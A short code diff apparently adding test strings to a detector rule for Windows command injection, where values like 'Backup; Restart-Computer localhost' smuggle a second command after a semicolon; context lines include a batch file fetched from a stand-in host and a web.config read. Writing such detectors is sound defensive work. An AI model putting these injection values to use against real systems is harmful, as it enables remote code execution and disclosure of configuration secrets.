@@ -150,6 +150,8 @@ export const windowsStatement: ValueRule = {
     'a;b\nx;\\\\evil.example.com\\s\\a.bat',
     'a;b\nx; C:\\a.bat',
     'Backup; Get-Content web.config',
+    'Backup; Restart-Computer localhost',
+    'Backup; Get-ChildItem uploads',
   ],
   lookalikes: [
     'coffee; get-together at noon',
